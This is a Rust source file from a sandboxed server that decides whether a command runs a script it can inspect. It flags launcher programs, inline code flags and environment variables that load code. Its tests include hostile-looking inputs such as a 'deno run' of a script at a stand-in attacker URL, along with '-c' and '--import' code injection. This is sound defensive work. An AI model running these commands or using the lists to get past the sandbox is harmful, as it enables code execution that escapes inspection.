//! The code that the program of a sandboxed server runs.

use std::path::Path;

use super::ProgramScript;

/// The knowledge about the code that a command line runs.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum CommandCode<'a> {
    Script(ProgramScript<'a>),
    /// The program's own code, which cannot be inspected.
    Own,
    /// Any code, for the given reason.
    Hidden(String),
}

const LONGEST_SHOWN: usize = 40;

/// The programs that start another program.
const STARTERS: &[&str] = &[
    "env", "sudo", "doas", "su", "nice", "nohup", "setsid", "timeout", "xargs", "busybox", "toybox",
    "stdbuf", "time", "ionice", "chroot", "unshare", "nsenter", "exec", "command", "script", "start", "ssh",
    "watch", "parallel", "find",
];

/// The programs that run scripts, with the language, and the options before the script that load no further code.
const INTERPRETERS: &[(&[&str], &str, &[&str])] = &[
    (
        &["python", "pypy", "pythonw", "py"],
        "python",
        &["-u", "-B", "-E", "-I", "-s", "-S", "-O", "-OO", "-q", "-P"],
    ),
    (&["node", "nodejs"], "javascript", &["--no-warnings", "--enable-source-maps"]),
    (&["tsx", "ts-node"], "typescript", &[]),
    (NEED_RUN, "typescript", &[]),
    (&["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh"], "bash", &[]),
    // These languages cannot be inspected here: the inspector says so, and they are refused.
    (&["ruby"], "ruby", &[]),
    (&["perl"], "perl", &[]),
    (&["php"], "php", &[]),
    (&["lua", "luajit"], "lua", &[]),
    (&["rscript"], "r", &[]),
    (&["fish", "csh", "tcsh"], "shell", &[]),
    (&["pwsh", "powershell"], "powershell", &[]),
    (&["cmd"], "batch", &[]),
];

/// The programs that need the word `run` before a script.
const NEED_RUN: &[&str] = &["deno", "bun"];

impl<'a> CommandCode<'a> {
    pub(super) fn of(command: &str, args: &'a [String]) -> Self {
        let name = program_name(command);
        if STARTERS.contains(&&*name) {
            return Self::Hidden(format!("`{name}` starts other programs: name the program itself"));
        }
        let Some((_, language, harmless)) = INTERPRETERS.iter().find(|(names, ..)| names.contains(&&*name))
        else {
            return Self::Own;
        };
        let mut rest = args.iter().map(String::as_str).enumerate().peekable();
        if NEED_RUN.contains(&&*name) && rest.next_if(|(_, arg)| *arg == "run").is_none() {
            return Self::Hidden(format!("`{name}` has to be given `run` and a script"));
        }
        while rest.next_if(|(_, arg)| harmless.contains(arg)).is_some() {}
        match rest.next() {
            Some((argument, path)) if !path.is_empty() && !path.starts_with('-') && !path.contains("://") => {
                Self::Script(ProgramScript { path: Path::new(path), language, argument })
            }
            Some((_, other)) => {
                let shown: String = other.chars().take(LONGEST_SHOWN).collect();
                Self::Hidden(format!("`{name}` has to be given a script first, not `{shown}`"))
            }
            None => Self::Hidden(format!("`{name}` has to be given a script")),
        }
    }
}

/// Returns the name without its directory, its version and `.exe`, in small letters.
pub(super) fn program_name(command: &str) -> String {
    let name = command.rsplit(['/', '\\']).next().unwrap_or(command).to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-').to_owned()
}

const LOADING: &[&str] = &[
    "_JAVA_OPTIONS", "BASH_ENV", "BASHOPTS", "CDPATH", "CLASSPATH", "COMSPEC", "ENV", "GEM_HOME", "GEM_PATH",
    "HOME", "IFS", "OPENSSL_CONF", "OPENSSL_MODULES", "PATH", "PATHEXT", "PROMPT_COMMAND", "PS4", "SHELL",
    "SHELLOPTS", "TMPDIR", "TS_NODE_PROJECT", "VIRTUAL_ENV", "ZDOTDIR", "TSX_TSCONFIG_PATH", "AWKPATH",
    "AWKLIBPATH", "LOCPATH", "NLSPATH", "HOSTALIASES", "RESOLV_HOST_CONF", "RES_OPTIONS", "TERMINFO",
    "TERMCAP",
];

const LOADING_FAMILIES: &[&str] = &[
    "LD_", "DYLD_", "PYTHON", "NODE_", "NPM_CONFIG_", "PERL", "RUBY", "LUA_", "PHP", "BASH_FUNC_", "BUN_",
    "DENO_", "JAVA_", "JDK_", "MAVEN_", "GIT_", "DOTNET_", "CORECLR_", "GCONV_", "MALLOC_", "GLIBC_", "UV_",
    "PIP_", "CONDA_",
];

/// Returns whether a variable, by its name or prefix, makes programs load code that is not inspected.
pub(super) fn loads_code(variable: &str) -> bool {
    let variable = variable.to_ascii_uppercase();
    LOADING_FAMILIES.iter().any(|begin| variable.starts_with(begin)) || LOADING.contains(&&*variable)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn code(line: &str) -> String {
        let mut words = line.split(' ').map(str::to_owned);
        let command = words.next().unwrap();
        let args: Vec<_> = words.collect();
        match CommandCode::of(&command, &args) {
            CommandCode::Script(script) => format!("{}: {}", script.language, script.path.display()),
            CommandCode::Own => "own".into(),
            CommandCode::Hidden(_) => "hidden".into(),
        }
    }

    #[test]
    fn the_script_of_an_interpreter_is_found() {
        assert_eq!(code("python scripts/a.py -c x"), "python: scripts/a.py");
        assert_eq!(code("/usr/bin/python3.12 -u -I a.py"), "python: a.py");
        assert_eq!(code("node.exe a.js"), "javascript: a.js");
        assert_eq!(code("deno run a.ts"), "typescript: a.ts");
        assert_eq!(code("Bash a.sh"), "bash: a.sh");
    }

    #[test]
    fn code_that_no_script_holds_is_hidden() {
        for line in [
            "python -c print(1)",
            "python3 -m http.server",
            "python -u -c x a.py",
            "python",
            "python -",
            "node -e x",
            "node --require ./x.js a.js",
            "node --import=data:text/javascript,x a.js",
            "deno run https://evil.example/x.ts",
            "deno run -A a.ts",
            "deno eval x",
            "sh -c x",
            "env python a.py",
            "busybox sh",
            "/usr/bin/sudo node a.js",
        ] {
            assert_eq!(code(line), "hidden", "{line}");
        }
    }

    #[test]
    fn any_other_program_is_its_own_code() {
        assert_eq!(code("/opt/tools/files-server --root /tmp"), "own");
    }
}
